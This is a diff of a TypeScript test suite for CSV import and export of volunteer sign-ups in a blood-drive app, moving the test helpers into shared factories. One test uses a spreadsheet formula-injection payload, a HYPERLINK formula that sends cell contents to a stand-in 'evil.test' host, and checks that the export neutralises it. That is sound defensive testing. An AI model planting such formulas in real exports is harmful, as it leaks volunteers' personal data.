@@ -1,8 +1,8 @@
 import { parse } from 'csv-parse/sync';
 import { Role } from '@life-relay/domain';
+import { Factories, hohhot as at } from '../../testing/factories';
 import { errorCode, createTestApp, TestApp } from '../../testing/test-app';
 
-const SIGN_UP = `mutation($input: SignUpInput!) { signUp(input: $input) { status manageToken } }`;
 const IMPORT = `mutation($driveId: ID!, $csv: String!, $dryRun: Boolean) {
   importSignUps(driveId: $driveId, csv: $csv, dryRun: $dryRun) { imported dryRun refused { line fields { field key message } } } }`;
 const ROSTER = `query($id: ID!) { signUps(driveId: $id, first: 100) { edges { node {
@@ -10,9 +10,6 @@ const ROSTER = `query($id: ID!) { signUps(driveId: $id, first: 100) { edges { no
   volunteer { name email phone birthDate bloodType } shift { startsAt } team { code } } } } }`;
 const STATS = `query($id: ID!) { drive(id: $id) { stats { signUps donated } } }`;
 
-// Dec 5 in Hohhot (UTC+8): International Volunteer Day.
-const DAY = '2030-12-05';
-const at = (hour: number, day = DAY) => `${day}T${String(hour).padStart(2, '0')}:00:00+08:00`;
 const HEADER = 'name,email,phone,birthDate,bloodType,shiftStartsAt,teamCode,status,volumeMl,deferralReason';
 
 type Report = { imported: number; dryRun: boolean; refused: { line: number; fields: { field: string; key: string; message: string }[] }[] };
@@ -21,46 +18,18 @@ describe('sign-ups as spreadsheets', () => {
   let app: TestApp;
   let organizer: string;
   let teamLead: string;
+  let make: Factories;
   let n = 0;
 
   beforeAll(async () => {
     app = await createTestApp();
     organizer = (await app.userWithRole(Role.ORGANIZER)).token;
     teamLead = (await app.userWithRole(Role.TEAM_LEAD)).token;
+    make = new Factories(app, organizer);
   });
   afterAll(() => app.close());
 
   const org = <T = Record<string, any>>(query: string, variables: Record<string, unknown> = {}) => app.ok<T>(query, variables, { token: organizer });
-
-  /** A drive (published unless told) with shifts at 9:00, 12:00, ... of the given capacities. */
-  async function drive(capacities: number[] = [50, 50], status: 'DRAFT' | 'PUBLISHED' | 'CLOSED' = 'PUBLISHED', day = DAY) {
-    const created = await org(`mutation($input: CreateDriveInput!) { createDrive(input: $input) { id slug shifts { id startsAt } } }`, {
-      input: {
-        title: `Volunteer day ${++n}`,
-        kind: 'WHOLE_BLOOD',
-        location: 'Hohhot, Wanda Plaza bloodmobile',
-        startsAt: at(8, day),
-        endsAt: at(20, day),
-        timeZone: 'Asia/Shanghai',
-        shifts: capacities.map((capacity, i) => ({ startsAt: at(9 + i * 3, day), endsAt: at(11 + i * 3, day), capacity })),
-      },
-    });
-    const { id, slug } = created.createDrive;
-    if (status !== 'DRAFT') await org(`mutation($id: ID!) { publishDrive(id: $id) { status } }`, { id });
-    if (status === 'CLOSED') await org(`mutation($id: ID!) { closeDrive(id: $id) { status } }`, { id });
-    return { id: id as string, slug: slug as string, shifts: created.createDrive.shifts.map((s: { id: string }) => s.id) as string[] };
-  }
-
-  async function team(name: string, collegeName: string | null = null) {
-    const data = await org(`mutation($input: CreateTeamInput!) { createTeam(input: $input) { id code } }`, { input: { name, collegeName } });
-    return data.createTeam as { id: string; code: string };
-  }
-
-  async function signUp(d: { slug: string; shifts: string[] }, overrides: Record<string, unknown> = {}) {
-    const input = { driveSlug: d.slug, shiftId: d.shifts[0], name: `Volunteer ${++n}`, email: `v${n}@campus.test`, phone: '13812345678', birthDate: '2004-05-20', consent: true, ...overrides };
-    const data = await app.ok(SIGN_UP, { input });
-    return { email: String(input.email).toLowerCase(), manageToken: data.signUp.manageToken as string };
-  }
 
   async function roster(driveId: string) {
     const data = await org(ROSTER, { id: driveId });
@@ -108,11 +77,11 @@ describe('sign-ups as spreadsheets', () => {
 
   describe('export', () => {
     it('gives every sign-up in arrival order as UTF-8 with a byte-order mark, Chinese names intact', async () => {
-      const d = await drive([50, 50]);
-      const club = await team(`IMU Red Cross Club ${++n}`, 'Inner Mongolia University 内蒙古大学');
-      const wang = await signUp(d, { name: '王小明', email: 'wang@campus.test', teamCode: club.code, source: 'qr', bloodType: 'O_NEG' });
-      const li = await signUp(d, { name: '李 "Lily" 丽, Jr.', email: 'li@campus.test', shiftId: d.shifts[1] });
-      const zhao = await signUp(d, { name: '赵六', email: 'zhao@campus.test', birthDate: null, phone: null });
+      const d = await make.drive({ capacities: [50, 50] });
+      const club = await make.team(`IMU Red Cross Club ${++n}`, 'Inner Mongolia University 内蒙古大学');
+      const wang = await make.signUp(d, { name: '王小明', email: 'wang@campus.test', teamCode: club.code, source: 'qr', bloodType: 'O_NEG' });
+      const li = await make.signUp(d, { name: '李 "Lily" 丽, Jr.', email: 'li@campus.test', shiftId: d.shifts[1] });
+      const zhao = await make.signUp(d, { name: '赵六', email: 'zhao@campus.test', birthDate: null, phone: null });
       await outcome(d.id, wang.email, { status: 'DONATED', volumeMl: 400 });
       await outcome(d.id, li.email, { status: 'DEFERRED', deferralReason: 'Low haemoglobin', retryOn: '2031-01-05' });
 
@@ -153,9 +122,9 @@ describe('sign-ups as spreadsheets', () => {
     });
 
     it('neutralises cells a spreadsheet would run as formulas', async () => {
-      const d = await drive();
-      await signUp(d, { name: '=HYPERLINK("http://evil.test/?"&A2,"Click")', email: 'formula@campus.test', source: '@SUM(1+1)' });
-      await signUp(d, { name: '-2+3', email: 'minus@campus.test', source: '+cmd' });
+      const d = await make.drive();
+      await make.signUp(d, { name: '=HYPERLINK("http://evil.test/?"&A2,"Click")', email: 'formula@campus.test', source: '@SUM(1+1)' });
+      await make.signUp(d, { name: '-2+3', email: 'minus@campus.test', source: '+cmd' });
       const [first, second]: Record<string, string>[] = parse((await download(d.id, organizer).expect(200)).body, { bom: true, columns: true });
       expect(first.name).toBe(`'=HYPERLINK("http://evil.test/?"&A2,"Click")`);
       expect(first.source).toBe(`'@SUM(1+1)`);
@@ -164,8 +133,8 @@ describe('sign-ups as spreadsheets', () => {
     });
 
     it('is for organizers only, and says so with HTTP statuses', async () => {
-      const d = await drive();
-      await signUp(d);
+      const d = await make.drive();
+      await make.signUp(d);
       const anonymous = await download(d.id).expect(401);
       expect(JSON.parse(anonymous.body.toString())).toMatchObject({ statusCode: 401, code: 'UNAUTHENTICATED' });
       const lead = await download(d.id, teamLead).expect(403);
@@ -179,7 +148,7 @@ describe('sign-ups as spreadsheets', () => {
     });
 
     it('of a drive without sign-ups is the header row alone', async () => {
-      const d = await drive();
+      const d = await make.drive();
       const text = (await download(d.id, organizer).expect(200)).body.toString('utf8');
       expect(text.startsWith('\ufeffname,email,')).toBe(true);
       expect(text.split('\r\n').filter(Boolean)).toHaveLength(1);
@@ -188,13 +157,13 @@ describe('sign-ups as spreadsheets', () => {
 
   describe('import', () => {
     it('takes back an exported drive into another one with the same shift times', async () => {
-      const source = await drive([50, 50]);
-      const club = await team(`Hohhot Riders ${++n}`, 'Inner Mongolia Agricultural University');
+      const source = await make.drive({ capacities: [50, 50] });
+      const club = await make.team(`Hohhot Riders ${++n}`, 'Inner Mongolia Agricultural University');
       const people = [
-        await signUp(source, { name: '王小明', teamCode: club.code, bloodType: 'A_POS' }),
-        await signUp(source, { name: 'Ayesha Khan', shiftId: source.shifts[1], phone: '+44 20 7946 0958' }),
-        await signUp(source, { name: '=1+1 巴特尔', teamCode: club.code }),
-        await signUp(source, { name: '张三', shiftId: source.shifts[1], birthDate: null }),
+        await make.signUp(source, { name: '王小明', teamCode: club.code, bloodType: 'A_POS' }),
+        await make.signUp(source, { name: 'Ayesha Khan', shiftId: source.shifts[1], phone: '+44 20 7946 0958' }),
+        await make.signUp(source, { name: '=1+1 巴特尔', teamCode: club.code }),
+        await make.signUp(source, { name: '张三', shiftId: source.shifts[1], birthDate: null }),
       ];
       await outcome(source.id, people[0].email, { status: 'DONATED', volumeMl: 400 });
       await outcome(source.id, people[1].email, { status: 'DEFERRED', deferralReason: '血红蛋白偏低', retryOn: '2031-01-05' });
@@ -203,7 +172,7 @@ describe('sign-ups as spreadsheets', () => {
       const exported = (await download(source.id, organizer).expect(200)).body.toString('utf8');
       // The paper copies of another day: same people, new addresses.
       const csv = exported.replace(/@campus\.test/g, '@paper.test');
-      const target = await drive([50, 50]);
+      const target = await make.drive({ capacities: [50, 50] });
       const before = await counts();
       expect(await imported(target.id, csv)).toEqual({ imported: 4, dryRun: false, refused: [] });
 
@@ -232,8 +201,8 @@ describe('sign-ups as spreadsheets', () => {
     });
 
     it('reads wall times in the drive’s zone, spreadsheet dates and loose spellings, and keeps existing volunteers’ names', async () => {
-      const d = await drive([5, 5]);
-      const known = await signUp(await drive(), { name: 'Original Name', phone: null, birthDate: null });
+      const d = await make.drive({ capacities: [5, 5] });
+      const known = await make.signUp(await make.drive(), { name: 'Original Name', phone: null, birthDate: null });
       const csv = [
         'Name;E-mail;Phone;Birth date;Blood type;Shift starts at;Status;Volume (ml)',
         `New Name;${known.email.toUpperCase()};138 1234 5678;2001/3/9;o-;2030-12-05 09:00;donated;300`,
@@ -252,8 +221,8 @@ describe('sign-ups as spreadsheets', () => {
     });
 
     it('refuses the whole file and reports every bad row with its line and fields', async () => {
-      const d = await drive([50, 50]);
-      const club = await team(`Paper Club ${++n}`);
+      const d = await make.drive({ capacities: [50, 50] });
+      const club = await make.team(`Paper Club ${++n}`);
       const csv = [
         HEADER,
         `Good Person,good@paper.test,13812345678,2000-01-01,O_POS,${at(9)},${club.code},,,`,
@@ -292,13 +261,13 @@ describe('sign-ups as spreadsheets', () => {
     });
 
     it('answers in the caller’s language', async () => {
-      const d = await drive();
+      const d = await make.drive();
       const report = await imported(d.id, `${HEADER}\n王小明,wang@paper,,,,${at(9)},,,,`, { locale: 'zh-CN,zh;q=0.9' });
       expect(report.refused).toEqual([{ line: 2, fields: [{ field: 'email', key: 'invalidEmail', message: '请输入有效的电子邮箱地址。' }] }]);
     });
 
     it('with dryRun checks the file and writes nothing', async () => {
-      const d = await drive();
+      const d = await make.drive();
       const csv = `${HEADER}\nDry One,dry1@paper.test,,,,${at(9)},,,,\nDry Two,dry2@paper.test,,,,${at(9)},,DONATED,350,`;
       const before = await counts();
       expect(await imported(d.id, csv, { dryRun: true })).toEqual({ imported: 2, dryRun: true, refused: [] });
@@ -312,8 +281,8 @@ describe('sign-ups as spreadsheets', () => {
     });
 
     it('refuses the rows a full shift has no place for', async () => {
-      const d = await drive([3, 50]);
-      await signUp(d);
+      const d = await make.drive({ capacities: [3, 50] });
+      await make.signUp(d);
       const csv = [
         HEADER,
         `Seat One,seat1@paper.test,,,,2030-12-05 09:00,,,,`,
@@ -332,8 +301,8 @@ describe('sign-ups as spreadsheets', () => {
     });
 
     it('refuses e-mails that appear twice in the file and people already signed up', async () => {
-      const d = await drive();
-      const already = await signUp(d);
+      const d = await make.drive();
+      const already = await make.signUp(d);
       const csv = [
         HEADER,
         `Twin A,twin@paper.test,,,,${at(9)},,,,`,
@@ -349,8 +318,8 @@ describe('sign-ups as spreadsheets', () => {
     });
 
     it('brings back a cancelled sign-up of the same person', async () => {
-      const d = await drive();
-      const gone = await signUp(d);
+      const d = await make.drive();
+      const gone = await make.signUp(d);
       await app.ok(`mutation($t: String!) { cancelSignUp(manageToken: $t) { status } }`, { t: gone.manageToken });
       expect(await imported(d.id, `${HEADER}\nCame After All,${gone.email},,,,${at(12)},,DONATED,400,`)).toMatchObject({ imported: 1, refused: [] });
       const rows = await roster(d.id);
@@ -361,7 +330,7 @@ describe('sign-ups as spreadsheets', () => {
     });
 
     it('takes paper forms typed in after a drive closed, dated at the shift, but not for a draft', async () => {
-      const closed = await drive([10], 'CLOSED', '2025-12-05');
+      const closed = await make.drive({ capacities: [10], status: 'CLOSED', day: '2025-12-05' });
       const csv = `${HEADER}\nLate Typing,late@paper.test,,,,2025-12-05 09:00,,DONATED,400,\nNever Came,never@paper.test,,,,2025-12-05 09:00,,NO_SHOW,,`;
       expect(await imported(closed.id, csv)).toMatchObject({ imported: 2, refused: [] });
       const rows = await roster(closed.id);
@@ -370,19 +339,19 @@ describe('sign-ups as spreadsheets', () => {
         ['NO_SHOW', null, null, null],
       ]);
       expect((await org(STATS, { id: closed.id })).drive.stats).toEqual({ signUps: 2, donated: 1 });
-      const draft = await drive([10], 'DRAFT');
+      const draft = await make.drive({ capacities: [10], status: 'DRAFT' });
       expect(errorCode(await importCsv(draft.id, `${HEADER}\nToo Early,early@paper.test,,,,${at(9)},,,,`))).toBe('CONFLICT');
     });
 
     it('does not e-mail anyone about paper sign-ups', async () => {
-      const d = await drive();
+      const d = await make.drive();
       const before = await counts();
       await imported(d.id, `${HEADER}\nNo Mail,nomail@paper.test,,,,${at(9)},,,,\nNo Thanks,nothanks@paper.test,,,,${at(9)},,DONATED,400,`);
       expect((await counts()).outbox).toBe(before.outbox);
     });
 
     it('refuses a file without the needed columns or one it cannot read', async () => {
-      const d = await drive();
+      const d = await make.drive();
       const fieldsOf = (result: Awaited<ReturnType<typeof importCsv>>) => {
         expect(errorCode(result)).toBe('BAD_USER_INPUT');
         return result.errors?.[0].extensions.fields?.map((f) => `${f.field}:${f.key}:${f.message}`);
@@ -397,7 +366,7 @@ describe('sign-ups as spreadsheets', () => {
     });
 
     it('imports a thousand rows at once, in file order', async () => {
-      const d = await drive([600, 600]);
+      const d = await make.drive({ capacities: [600, 600] });
       const rows = Array.from({ length: 1000 }, (_, i) => `Person ${i},p${i}@bulk.test,,,,2030-12-05 ${i % 2 ? '12' : '09'}:00,,${i % 10 ? '' : 'DONATED'},${i % 10 ? '' : 400},`);
       const before = await counts();
       expect(await imported(d.id, [HEADER, ...rows].join('\n'))).toEqual({ imported: 1000, dryRun: false, refused: [] });
@@ -408,7 +377,7 @@ describe('sign-ups as spreadsheets', () => {
     });
 
     it('is for organizers only', async () => {
-      const d = await drive();
+      const d = await make.drive();
       const csv = `${HEADER}\nA,a@paper.test,,,,${at(9)},,,,`;
       expect(errorCode(await importCsv(d.id, csv, { token: teamLead }))).toBe('FORBIDDEN');
       expect(errorCode(await importCsv(d.id, csv, { token: null }))).toBe('UNAUTHENTICATED');
